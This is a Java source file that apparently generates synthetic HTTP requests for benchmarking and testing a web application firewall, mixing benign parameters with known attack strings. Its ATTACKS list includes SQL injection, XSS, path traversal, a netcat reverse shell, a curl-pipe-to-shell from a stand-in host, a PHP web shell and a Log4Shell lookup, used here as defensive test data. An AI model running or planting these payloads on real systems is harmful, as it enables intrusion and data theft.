package dev.linrex.waf;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Generated request text for the WAF benchmark and tests: query strings, JSON bodies and header
 * blocks as a browser or API client sends them, with known attack strings (SQL injection, XSS,
 * path traversal, command injection, PHP/Java payloads) mixed in at a given rate. Deterministic
 * for a seed.
 */
public final class Requests {
    private Requests() {}

    private static final String[] WORDS = {
        "id", "user", "name", "page", "q", "search", "lang", "sort", "order", "limit", "offset", "token", "session",
        "email", "city", "country", "product", "category", "price", "currency", "ref", "utm_source", "utm_medium",
        "callback", "filter", "view", "mode", "format", "redirect", "return", "item", "cart", "qty", "color", "size",
    };
    private static final String[] VALUES = {
        "john", "alice%40example.com", "42", "1024", "en-US", "desc", "asc", "hello+world", "New%20York", "EUR",
        "blue", "XL", "true", "false", "2026-12-01", "a1b2c3d4e5", "https%3A%2F%2Fexample.com%2Fhome", "shoes",
        "Z%C3%BCrich", "%E6%9D%B1%E4%BA%AC", "summer+sale", "9.99", "0", "-1", "abc_DEF-123",
    };
    private static final String[] HEADERS = {
        "Host: shop.example.com",
        "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "Accept-Language: en-US,en;q=0.5",
        "Accept-Encoding: gzip, deflate, br",
        "Referer: https://shop.example.com/products?page=2",
        "Cookie: session=8f2a9c1e77; theme=dark; consent=yes",
        "Content-Type: application/json; charset=utf-8",
        "Connection: keep-alive",
        "Cache-Control: max-age=0",
        "X-Requested-With: XMLHttpRequest",
    };
    private static final String[] ATTACKS = {
        "1' UNION SELECT username, password FROM users--",
        "' OR '1'='1",
        "1; DROP TABLE orders; --",
        "admin'/*",
        "1 AND SLEEP(5)",
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "\"><svg/onload=confirm(1)>",
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "; cat /etc/passwd",
        "| nc -e /bin/sh 10.0.0.1 4444",
        "$(curl http://evil.example/x.sh | sh)",
        "<?php system($_GET['cmd']); ?>",
        "${jndi:ldap://evil.example/a}",
        "java.lang.Runtime.getRuntime().exec(\"id\")",
        "http://evil.example/shell.txt?",
        "() { :; }; /bin/bash -c 'id'",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    };

    public static List<String> attackStrings() {
        return List.of(ATTACKS);
    }

    /** Short benign parameter values and query strings. */
    public static List<String> benignValues(int n, long seed) {
        Random rnd = new Random(seed);
        List<String> out = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            StringBuilder sb = new StringBuilder();
            switch (i % 3) {
                case 0 -> sb.append(VALUES[rnd.nextInt(VALUES.length)]);
                case 1 -> appendQuery(sb, rnd, 1 + rnd.nextInt(5), 0);
                default -> appendJson(sb, rnd, 1 + rnd.nextInt(4), 0);
            }
            out.add(sb.toString());
        }
        return out;
    }

    /**
     * One request of about {@code size} chars: a request line with a query string, headers and a
     * JSON body (repeated records), with an attack string in roughly one field in
     * {@code 1 / attackEvery} ({@code 0}: none).
     */
    public static String request(int size, long seed, int attackEvery) {
        Random rnd = new Random(seed);
        StringBuilder sb = new StringBuilder(size + 256);
        sb.append("GET /shop/search?");
        appendQuery(sb, rnd, 3 + rnd.nextInt(6), attackEvery);
        sb.append(" HTTP/1.1\r\n");
        for (String h : HEADERS) {
            sb.append(h).append("\r\n");
        }
        sb.append("\r\n");
        while (sb.length() < size) {
            appendJson(sb, rnd, 2 + rnd.nextInt(6), attackEvery);
            sb.append('\n');
            if (sb.length() < size && rnd.nextInt(4) == 0) {
                appendQuery(sb, rnd, 2 + rnd.nextInt(6), attackEvery);
                sb.append('\n');
            }
        }
        sb.setLength(size);
        return sb.toString();
    }

    private static String value(Random rnd, int attackEvery) {
        if (attackEvery > 0 && rnd.nextInt(attackEvery) == 0) {
            return ATTACKS[rnd.nextInt(ATTACKS.length)];
        }
        return VALUES[rnd.nextInt(VALUES.length)];
    }

    private static void appendQuery(StringBuilder sb, Random rnd, int params, int attackEvery) {
        for (int i = 0; i < params; i++) {
            if (i > 0) {
                sb.append('&');
            }
            sb.append(WORDS[rnd.nextInt(WORDS.length)]).append('=').append(value(rnd, attackEvery));
        }
    }

    private static void appendJson(StringBuilder sb, Random rnd, int fields, int attackEvery) {
        sb.append('{');
        for (int i = 0; i < fields; i++) {
            if (i > 0) {
                sb.append(',');
            }
            sb.append('"').append(WORDS[rnd.nextInt(WORDS.length)]).append("\":");
            switch (rnd.nextInt(3)) {
                case 0 -> sb.append(rnd.nextInt(100_000));
                case 1 -> sb.append('"').append(value(rnd, attackEvery).replace("\"", "\\\"")).append('"');
                default -> sb.append("[\"").append(WORDS[rnd.nextInt(WORDS.length)]).append("\",").append(rnd.nextBoolean())
                        .append(']');
            }
        }
        sb.append('}');
    }
}
